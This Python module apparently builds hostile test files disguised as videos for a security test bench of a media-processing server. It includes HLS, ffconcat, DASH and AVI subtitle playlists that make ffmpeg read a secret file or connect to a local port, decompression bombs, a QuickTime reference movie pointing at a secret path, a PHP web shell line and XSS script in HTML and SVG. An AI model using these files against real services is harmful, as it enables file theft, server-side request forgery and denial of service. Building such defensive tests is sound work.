"""Files that pretend, unfold, or try to make the server read and connect elsewhere."""

import gzip
import io
import struct
import zipfile
import zlib
from dataclasses import replace
from pathlib import Path

from PIL import Image

from .bench import PICTURE, SOUND, Bench, ffmpeg_recipe, recipe
from .boxes import box, grey_h264, numbers

_PIECE = bytes(1 << 20)


def _text(name: str, content: str) -> None:
    """A text under a video's name; it may use {secret} and {port}."""

    def make(bench: Bench, out: Path) -> None:
        filled = content.replace("{secret}", str(bench.secret)).replace("{port}", str(bench.port))
        out.write_text(filled)

    recipe(name)(make)


_HLS = "#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\n{target}\n#EXT-X-ENDLIST\n"
_text("hls_file.mp4", _HLS.format(target="file://{secret}"))
_text("hls_path.m3u8", _HLS.format(target="{secret}"))
_text("hls_connect.mp4", _HLS.format(target="http://127.0.0.1:{port}/secret.ts"))
_text("hls_connect.m3u8", _HLS.format(target="http://127.0.0.1:{port}/secret.ts"))
_text("hls_concat.mp4", _HLS.format(target="concat:http://127.0.0.1:{port}/?|file://{secret}"))
_KEY = '#EXT-X-KEY:METHOD=AES-128,URI="http://127.0.0.1:{port}/k"\n'
_text("hls_key.mp4", _HLS.replace("#EXTINF", _KEY + "#EXTINF").replace("{target}", "piece.ts"))
_text("ffconcat_file.mp4", "ffconcat version 1.0\nfile '{secret}'\n")
_text("ffconcat_connect.mp4", "ffconcat version 1.0\nfile 'http://127.0.0.1:{port}/a.mp4'\n")
_text(
    "dash.mp4",
    '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"'
    ' mediaPresentationDuration="PT10S" profiles="urn:mpeg:dash:profile:isoff-on-demand:2011">'
    '<Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1">'
    "<BaseURL>http://127.0.0.1:{port}/a.mp4</BaseURL></Representation>"
    '<Representation id="2" bandwidth="2"><BaseURL>file://{secret}</BaseURL></Representation>'
    "</AdaptationSet></Period></MPD>\n",
)
_text(
    "sdp.mp4",
    "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=take\nc=IN IP4 127.0.0.1\nt=0 0\n"
    "m=video {port} RTP/AVP 96\na=rtpmap:96 H264/90000\na=control:rtsp://127.0.0.1:{port}/\n",
)
_text("text.mp4", "This is the essay that I wrote about my practice.\n" * 40)
_text("script.mp4", "<?php system($_GET['c']); ?>\n" * 20)
_text("page.mp4", "<!doctype html><html><body><script>alert(1)</script></body></html>\n" * 20)
_text(
    "drawing.mp4",
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
    '<image xlink:href="http://127.0.0.1:{port}/a.png"/><script>alert(1)</script></svg>\n',
)


def _bytes(name: str, content: bytes) -> None:
    def make(bench: Bench, out: Path) -> None:
        out.write_bytes(content)

    recipe(name)(make)


_bytes("document.mp4", b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n" + b"%" * 4000)
_bytes("program.mp4", b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x02\0\x3e\0\x01\0\0\0" + bytes(4000))

ffmpeg_recipe("gif_named.mp4", *PICTURE, "-t", "0.4", "-f", "gif")
ffmpeg_recipe("magicyuv.avi", *PICTURE, "-t", "0.4", "-c:v", "magicyuv")
ffmpeg_recipe("flv1.flv", *PICTURE, "-t", "0.4", "-c:v", "flv")
ffmpeg_recipe("flv1.avi", *PICTURE, "-t", "0.4", "-c:v", "flv")
ffmpeg_recipe("wmv2.wmv", *PICTURE, *SOUND, "-t", "0.4", "-c:v", "wmv2")
ffmpeg_recipe("wmv2.avi", *PICTURE, "-t", "0.4", "-c:v", "wmv2")


@recipe("png_named.mp4")
def png_named(bench: Bench, out: Path) -> None:
    Image.new("RGB", (320, 240), "teal").save(out, format="PNG")


@recipe("zip_bomb.mp4")
def zip_bomb(bench: Bench, out: Path) -> None:
    archive = zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED)
    with archive, archive.open("zeros", "w") as member:
        for _ in range(100):
            member.write(_PIECE)


@recipe("gzip_bomb.mp4")
def gzip_bomb(bench: Bench, out: Path) -> None:
    """A packed drawing: a renderer that unpacks it before it looks at it fills its memory."""
    with gzip.open(out, "wb", compresslevel=1) as packed:
        packed.write(b'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">')
        for _ in range(100):
            packed.write(_PIECE)


@recipe("unfolding_index.mov")
def unfolding_index(bench: Bench, out: Path) -> None:
    """QuickTime's compressed index: half a megabyte that claims and unfolds to 512."""
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(_PIECE) for _ in range(512)) + packer.flush()
    index = box(b"cmov", box(b"dcom", b"zlib"), box(b"cmvd", numbers(512 << 20), packed))
    out.write_bytes(box(b"ftyp", b"qt  ", numbers(0), b"qt  ") + box(b"moov", index))


@recipe("reference_movie.mov")
def reference_movie(bench: Bench, out: Path) -> None:
    """QuickTime's reference movie: the samples are said to lie in another file."""
    path = str(bench.secret).encode()
    record = bytes(10) + struct.pack(">H", 2) + bytes(146) + struct.pack(">HH", 18, len(path))
    alias = box(b"alis", numbers(0), record + path + b"\0" * (len(path) % 2) + b"\xff\xff\0\0")
    elsewhere = replace(grey_h264(320, 240), sample=bytes(400), reference=alias)
    out.write_bytes(elsewhere.file())


def _riff(kind: bytes, *parts: bytes) -> bytes:
    body = b"".join(parts)
    return kind + struct.pack("<I", len(body)) + body + b"\0" * (len(body) % 2)


def _list(kind: bytes, *parts: bytes) -> bytes:
    return _riff(b"LIST", kind, *parts)


@recipe("gab2_subtitles.avi")
def gab2_subtitles(bench: Bench, out: Path) -> None:
    """An AVI film whose subtitle packet is a playlist: ffmpeg opens what is inside it."""
    target = f"concat:http://127.0.0.1:{bench.port}/?|file://{bench.secret}"
    playlist = _HLS.format(target=target).encode()
    packet = b"GAB2\0" + struct.pack("<HI", 2, 2) + b"\0\0" + struct.pack("<HI", 4, len(playlist))
    frames = [_riff(b"00dc", _jpeg(shade)) for shade in range(0, 250, 10)]
    movie = _list(b"movi", _riff(b"01tx", packet + playlist), *frames)
    out.write_bytes(_riff(b"RIFF", b"AVI ", _avi_head(len(frames)), movie))


def _jpeg(shade: int) -> bytes:
    packed = io.BytesIO()
    Image.new("RGB", (320, 240), (shade, 120, 120)).save(packed, format="JPEG")
    return packed.getvalue()


def _avi_head(count: int) -> bytes:
    avih = struct.pack("<14I", 40_000, 0, 0, 0x100, count, 0, 2, 0, 320, 240, 0, 0, 0, 0)
    film = struct.pack("<IHHIIIIIIII", 0, 0, 0, 0, 1, 25, 0, count, 0, 0, 0) + bytes(8)
    words = struct.pack("<IHHIIIIIIII", 0, 0, 0, 0, 1, 25, 0, 1, 0, 0, 0) + bytes(8)
    pictures = struct.pack("<IiiHH4sIiiII", 40, 320, 240, 1, 24, b"MJPG", 230_400, 0, 0, 0, 0)
    return _list(
        b"hdrl",
        _riff(b"avih", avih),
        _list(b"strl", _riff(b"strh", b"vidsMJPG" + film), _riff(b"strf", pictures)),
        _list(b"strl", _riff(b"strh", b"txts\0\0\0\0" + words), _riff(b"strf", b"")),
    )
